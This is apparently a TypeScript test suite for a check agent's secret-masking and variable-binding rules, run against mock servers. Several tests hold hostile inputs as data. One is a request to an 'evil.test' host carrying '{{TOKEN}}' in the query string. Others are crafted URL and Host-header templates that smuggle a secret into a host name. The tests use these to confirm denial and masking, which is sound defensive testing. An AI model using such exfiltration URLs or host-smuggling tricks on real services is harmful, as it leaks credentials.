import { describe, expect, it } from 'vitest';
import { MASK } from '../../../../src/model/credentials/mask.ts';
import type { CheckResult } from '../../../../src/model/result/result.ts';
import { systemClock } from '../../../../src/runtime/clock.ts';
import { cutText } from '../../../../src/runtime/text/cut-text.ts';
import { loopbackResolver } from '../../../support/agent/probe-context.ts';
import { runFixture } from '../../../support/agent/run-fixture.ts';
import { checkOf } from '../../../support/samples/checks.ts';
import { operatorSecretsOf } from '../../../support/samples/secrets.ts';
import { answering, rawServer, response } from '../../../support/servers/http-servers.ts';

const SECRET = 'sk-live-kP7vx-Qm92hZ-tuLw4Rb';
/** Everything but its last character: whoever learns that it is right can guess the rest. */
const GUESS = SECRET.slice(0, -1);
const PARTS = [GUESS, SECRET.slice(1), SECRET.slice(8, 20)];
const BOUND_ELSEWHERE = ['TOKEN@db.test:5432'];
const HEADER = { key: 'x-token', value: '{{TOKEN}}' };

/** Runs a check where TOKEN is the agent's own variable, bound to the targets. */
async function run(
  request: object,
  targets: readonly string[],
  value = SECRET,
  variables: readonly object[] = [],
) {
  const secrets = await operatorSecretsOf({ TOKEN: value }, targets);
  const fixture = runFixture({
    clock: systemClock,
    parts: { secrets, resolver: loopbackResolver },
  });
  const settings = { retryStrategy: null, doubleCheck: false, variables, request };
  await fixture.run(checkOf('API', settings));
  const [result] = fixture.results;
  if (result === undefined) throw new Error('there is no result');
  return result;
}

function countOf(text: string, part: string): number {
  return text.split(part).length - 1;
}

/** The result as JSON, without the headers that are always masked. */
function shown({ apiCheckResult }: CheckResult): string {
  return JSON.stringify(apiCheckResult);
}

describe('a guessed part of a variable that its agent binds elsewhere', () => {
  it.each(PARTS)(
    'is returned unmasked: %s, in whatever a target answers (trust model SN23)',
    async (guess) => {
      const words = ['plain', `${guess}`, `${guess}…`, encodeURIComponent(guess)];
      const body = JSON.stringify({ guess, words, half: Buffer.from(guess).toString('base64') });
      const long = `${body}${'x'.repeat(10_240 - body.length - guess.length)}${guess}${'x'.repeat(99)}`;
      for (const sent of [body, long]) {
        const server = await rawServer(answering(response('200 OK', sent, `X-Echo: ${guess}`)));
        const result = await run(
          {
            url: `http://evil.test:${server.port}/`,
            assertions: [
              { source: 'JSON_BODY', property: '$.guess', comparison: 'EQUALS', target: 'x' },
              {
                source: 'TEXT_BODY',
                property: 'guess":"(.{10})',
                comparison: 'EQUALS',
                target: 'x',
              },
              { source: 'TEXT_BODY', property: '', comparison: 'EQUALS', target: 'x' },
              { source: 'HEADERS', property: 'x-echo', comparison: 'EQUALS', target: 'x' },
            ],
          },
          BOUND_ELSEWHERE,
        );
        expect(shown(result)).not.toContain(MASK);
        expect(result.apiCheckResult?.response?.body).toBe(cutText(sent, 10_240));
      }
    },
  );

  it.each(PARTS)(
    'is returned unmasked: %s, in whatever the check contains (trust model SN23)',
    async (guess) => {
      const server = await rawServer(answering(response('200 OK', 'fine')));
      const cut = `${guess}… (cut at 10240 bytes)`;
      const request = {
        method: 'POST',
        headers: [HEADER, { key: 'x-long', value: `${guess}${'x'.repeat(20)}` }],
        queryParameters: [{ key: 'q', value: cut }],
        bodyType: 'RAW',
        body: `${'x'.repeat(10_240 - guess.length)}${guess}y`,
        assertions: [
          { source: 'TEXT_BODY', property: `(${guess}…)?`, comparison: 'EQUALS', target: guess },
          { source: 'HEADERS', property: guess, comparison: 'EQUALS', target: cut },
        ],
      };
      const path = `${'p'.repeat(200)}${guess}${'p'.repeat(200)}`;
      const origin = `http://evil.test:${server.port}`;
      // Also where the check does send the variable, to a target that repeats nothing.
      for (const targets of [BOUND_ELSEWHERE, [`TOKEN@evil.test:${server.port}`]]) {
        const result = await run({ ...request, url: `${origin}/${path}` }, targets);
        const text = shown(result).replaceAll(`"x-token":"${MASK}"`, '');
        expect(text).not.toContain(MASK);
        const places = targets === BOUND_ELSEWHERE ? 1 : 9;
        expect(countOf(text, guess)).toBeGreaterThanOrEqual(places);
      }
    },
  );

  it('is returned unmasked in the name of a host that it may not be sent to (trust model SN23)', async () => {
    for (const guess of ['kp7vx-qm92hz', 'some-other-ab']) {
      const value = 'kp7vx-qm92hz-tulw4rb';
      const request = { url: `https://${guess}.evil.test/?t={{TOKEN}}`, headers: [HEADER] };
      const { apiCheckResult } = await run(request, BOUND_ELSEWHERE, value);
      expect(apiCheckResult?.requestErrorCode).toBe('VARIABLE_DENIED');
      expect(apiCheckResult?.requestError).toContain(`may not be sent to ${guess}.evil.test:443:`);
    }
  });

  it.each([
    'https://\\{{{TOKEN}}}',
    'https://\t\\{{{TOKEN}}}',
    'https://\n/\\{{{TOKEN}}}',
    'https://\\{{TOKEN}}/x@y',
    'https://{{EMPTY}}\\{{{TOKEN}}}',
    'https://{{{SLASH}}}/{{{TOKEN}}}',
    'https://{{TOKEN}}{{{SLASH}}}@db.test/',
    '{{EMPTY}}https://\\{{{TOKEN}}}',
  ])('of a host that a variable makes is not shown, nor captured: %j', async (url) => {
    const variables = [
      { key: 'EMPTY', value: '' },
      { key: 'SLASH', value: '\\' },
    ];
    const value = url.includes('{{{TOKEN') ? 'planted/part' : 'planted-part';
    const { apiCheckResult } = await run({ url }, BOUND_ELSEWHERE, value, variables);
    expect(JSON.stringify(apiCheckResult)).not.toContain('planted');
    expect(apiCheckResult?.requestError).toContain(
      'port 443 of a host whose name contains a variable',
    );
    const secrets = await operatorSecretsOf({ TOKEN: value });
    const rendered = secrets.render(checkOf('API', { request: { url }, variables }));
    expect(rendered.ok && rendered.own.isInHost).toBe(true);
  });

  it('of the scheme and user that a variable makes is not shown', async () => {
    const request = { url: '{{TOKEN}}@db.test/' };
    const value = 'https://planted/part';
    const { apiCheckResult } = await run(request, BOUND_ELSEWHERE, value);
    expect(JSON.stringify(apiCheckResult)).not.toContain('planted');
    expect(apiCheckResult?.requestError).toContain(
      'port 443 of a host whose name contains a variable',
    );
  });

  it('of a Host header that a variable makes is not shown', async () => {
    const header = { key: 'Host', value: '{{TOKEN}}' };
    const request = { url: 'http://db.test:5432/', headers: [header] };
    const { apiCheckResult } = await run(request, BOUND_ELSEWHERE, 'planted-part:1234');
    expect(JSON.stringify(apiCheckResult)).not.toContain('planted');
    expect(apiCheckResult?.requestError).toContain(
      'port 5432 of a host whose name contains a variable',
    );
  });
});

it('a whole value that was guessed comes back masked, from any target (trust model SC13)', async () => {
  const server = await rawServer(answering(response('200 OK', `111111 ${SECRET} 222222`)));
  const result = await run({ url: `http://evil.test:${server.port}/` }, BOUND_ELSEWHERE);
  expect(result.apiCheckResult?.response?.body).toBe(`111111 ${MASK} 222222`);
});

it('a part of a value that a target repeats is masked, and so shows whether it is one (trust model SC3)', async () => {
  const guesses = [SECRET.slice(4, 16), 'some other text'];
  const bodies = await Promise.all(
    guesses.map(async (guess) => {
      const server = await rawServer(answering(response('200 OK', `<${guess}>`)));
      const result = await run(
        {
          url: `http://echo.test:${server.port}/`,
          headers: [HEADER],
          assertions: [
            { source: 'TEXT_BODY', property: '<(.*)>', comparison: 'EQUALS', target: 'x' },
          ],
        },
        ['TOKEN@echo.test'],
      );
      return result.apiCheckResult?.assertions[0]?.actual;
    }),
  );
  expect(bodies).toEqual([MASK, 'some other text']);
});

describe('a secret that a limit cuts in two', () => {
  it.each([0, 1, 7, 8, 9, SECRET.length - 1, SECRET.length])(
    'shows nothing before the cut, with %i of its characters there',
    async (before) => {
      const upTo = (chars: number): string => 'x'.repeat(chars - before);
      const body = `${upTo(10_240)}${SECRET}${'y'.repeat(9_000)}`;
      const quoted = `${upTo(200)}${SECRET}${'z'.repeat(50)}`;
      const server = await rawServer(answering(response('200 OK', body, `X-Quoted: ${quoted}`)));
      const origin = `http://echo.test:${server.port}/`;
      const longUrl = `${upTo(300 - origin.length)}{{TOKEN}}${'p'.repeat(50)}`;
      const result = await run(
        {
          method: 'POST',
          url: `${origin}${longUrl}`,
          bodyType: 'RAW',
          body: `${upTo(10_240)}{{TOKEN}}${'y'.repeat(50)}`,
          queryParameters: [{ key: 'q', value: `${upTo(10_240)}{{TOKEN}}` }],
          assertions: [
            { source: 'TEXT_BODY', property: '', comparison: 'EQUALS', target: 'x' },
            { source: 'HEADERS', property: 'x-quoted', comparison: 'EQUALS', target: 'x' },
          ],
        },
        [],
      );
      const text = shown(result);
      for (const chars of [2, 8, SECRET.length].filter((count) => count <= before)) {
        expect(text).not.toContain(`x${SECRET.slice(0, chars)}`);
      }
      const { length } = result.apiCheckResult?.response?.body ?? '';
      expect(length).toBeGreaterThan(10_240 - SECRET.length);
      expect(length).toBeLessThanOrEqual(10_240);
    },
  );
});

it('the password in a url is not shown where a template cannot be filled in', async () => {
  const { apiCheckResult } = await run({ url: '{{SCHEME}}://user:hunter-2@h.test/p' }, []);
  expect(apiCheckResult?.requestErrorCode).toBe('VARIABLE_UNKNOWN');
  expect(apiCheckResult?.request.url).toBe(`{{SCHEME}}://${MASK}@h.test/p`);
});
